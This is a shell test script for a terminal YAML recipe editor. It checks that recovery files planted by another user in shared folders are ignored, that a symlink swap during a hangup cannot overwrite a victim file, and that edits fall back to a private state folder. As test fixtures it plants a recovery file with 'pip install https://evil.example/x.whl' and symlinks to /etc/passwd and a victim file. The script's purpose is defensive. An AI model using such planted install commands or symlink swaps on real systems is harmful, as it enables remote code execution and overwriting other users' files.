#!/bin/sh
# Recovery in a shared or unwritable folder, with another user about.
# - In a folder others can write, files another user planted (a recovery file
#   of theirs with a wheel URL, a symlink named like a recovery file) are not
#   offered: the session lists them as ignored, with the reason.
# - Where the recipe's folder cannot take the recovery file (the user cannot
#   write it), a hangup keeps the edits under $XDG_STATE_HOME/srt-tui/, and the
#   next session finds and restores them there.
# The other user is nobody (setpriv); without root this prints a skip line.
. "$SRCDIR/tests/tui/lib.sh"
if [ "$(id -u)" != 0 ] || ! id nobody >/dev/null 2>&1 || ! command -v setpriv >/dev/null 2>&1; then
	echo "skip: needs root, the user nobody and setpriv to act as another user"
	exit 0
fi
chmod 755 "$TMPD"
orig="$SRCDIR/tests/fixtures/tui/lmcache-agg.yaml"
nobody() { setpriv --reuid=nobody --regid=nogroup --clear-groups "$@"; }

# planted files in a world-writable folder
mkdir "$TMPD/shared"
chmod 777 "$TMPD/shared"
cp "$orig" "$TMPD/shared/r.yaml"
nobody sh -c "printf 'setup_script: \"pip install https://evil.example/x.whl\"\n' \
	>'$TMPD/shared/.r.yaml.srt-tui-recover-1-1'; ln -s /etc/passwd '$TMPD/shared/.r.yaml.srt-tui-recover-2-2'" ||
	fail "cannot plant the files as nobody"
tui_start 100 30 sh -c 'cd shared && "$0" edit r.yaml' "$SRT_TUI"
wait_for "Recovery files ignored"
wait_for "recover-1-1': it belongs to another user"
wait_for "recover-2-2': it is a symbolic link"
keys Escape
wait_gone "Recovery files ignored"
screen | grep -q "Restore unsaved edits" && fail "a planted file was offered"
screen | grep -q "evil.example" && fail "the planted content reached the editor"
keys q
wait_exit
cmp -s "$orig" "$TMPD/shared/r.yaml" || fail "the recipe changed"
[ "$(readlink "$TMPD/shared/.r.yaml.srt-tui-recover-2-2")" = /etc/passwd ] || fail "the link was touched"

# The attack of the report: in that folder another user replaces the
# session's recovery file (and its temp name) by links to a file the editing
# user can write; a hangup then must not write through them.
printf 'precious\n' >"$TMPD/victim"
tui_start 100 30 sh -c 'cd shared && "$0" edit r.yaml' "$SRT_TUI"
wait_for "Recovery files ignored"
keys Escape
wait_gone "Recovery files ignored"
set_field agg.workers 15
wait_for "[modified]"
mine() { ls "$TMPD"/shared/.r.yaml.srt-tui-recover-[0-9]*-* 2>/dev/null | grep -v -- '-1-1$\|-2-2$' | head -n 1; }
i=0
while [ -z "$(mine)" ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i + 1)); done
own=$(mine)
[ -n "$own" ] || fail "no autosave in the shared folder"
nobody sh -c "rm -f '$own' && ln -s '$TMPD/victim' '$own' && ln -s '$TMPD/victim' '$own.tmp'" ||
	fail "cannot plant the links as nobody"
sh_pid=$(T list-panes -t t -F '#{pane_pid}')
pid=$(pgrep -x srt-tui -P "$(pgrep -P "$sh_pid" | head -n 1)")
[ -n "$pid" ] || fail "cannot find srt-tui"
kill -HUP "$pid"
wait_exit
[ "$(cat "$TMPD/victim")" = precious ] || fail "the hangup wrote through the planted link"
[ -L "$own" ] && fail "the recovery file is still the planted link"
[ -f "$own" ] && grep -q '^    workers: 15$' "$own" || fail "the edits are not in the recovery file"
[ "$(stat -c '%U %a' "$own")" = "root 600" ] || fail "recovery file $(stat -c '%U %a' "$own")"
rm -f "$own" "$own.tmp"

# a folder nobody cannot write: the state folder takes the edits
mkdir "$TMPD/ro" "$TMPD/nstate"
chmod 755 "$TMPD/ro"
chown nobody "$TMPD/nstate"
cp "$orig" "$TMPD/ro/r.yaml"
chmod 666 "$TMPD/ro/r.yaml"
cat >"$TMPD/asnobody.sh" <<RUN
cd "$TMPD/ro" && exec setpriv --reuid=nobody --regid=nogroup --clear-groups \
	env HOME=/nonexistent XDG_STATE_HOME="$TMPD/nstate" "$SRT_TUI" edit r.yaml
RUN
tui_start 100 30 sh "$TMPD/asnobody.sh"
wait_for "no problems"
set_field agg.workers 13
wait_for "[modified]"
pid=$(pgrep -x srt-tui -U nobody | head -n 1)
[ -n "$pid" ] || fail "cannot find srt-tui"
kill -HUP "$pid"
wait_exit
[ "$(exit_status)" = 1 ] || fail "exit $(exit_status), want 1"
wait_for "unsaved edits kept in '$TMPD/nstate/srt-tui/r.yaml-"
rec=$(ls "$TMPD"/nstate/srt-tui/r.yaml-*.srt-tui-recover-* 2>/dev/null | head -n 1)
[ -n "$rec" ] || fail "no recovery file in the state folder"
[ "$(stat -c '%U %a' "$rec")" = "nobody 600" ] || fail "recovery file $(stat -c '%U %a' "$rec")"
[ "$(stat -c '%a' "$TMPD/nstate/srt-tui")" = 700 ] || fail "state folder mode $(stat -c %a "$TMPD/nstate/srt-tui")"
grep -q '^    workers: 13$' "$rec" || fail "the recovery file lacks the edit"
ls -a "$TMPD/ro" | grep -q recover && fail "a recovery file in the read-only folder?"
tui_start 100 30 sh "$TMPD/asnobody.sh"
wait_for "Restore unsaved edits?"
wait_for "$TMPD/nstate/srt-tui/r.yaml-"
keys y
wait_for "restored the unsaved edits"
wait_for "[modified]"
keys q
wait_for "Unsaved changes"
keys d
wait_exit
echo ok
